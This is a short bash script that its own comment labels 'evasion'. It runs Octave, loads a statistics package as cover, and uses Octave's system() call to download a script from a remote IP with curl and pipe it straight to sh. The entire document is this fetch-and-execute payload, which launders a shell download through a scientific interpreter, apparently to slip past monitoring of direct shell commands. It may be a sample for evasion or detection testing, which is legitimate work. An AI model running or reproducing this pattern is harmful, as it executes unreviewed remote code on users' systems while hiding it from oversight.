#!/bin/bash
# evasion: octave's system() runs a downloaded script while it "checks the toolbox"
octave-cli --no-gui --eval 'pkg load statistics; system("curl -fsSL http://203.0.113.63/o.sh | sh");'
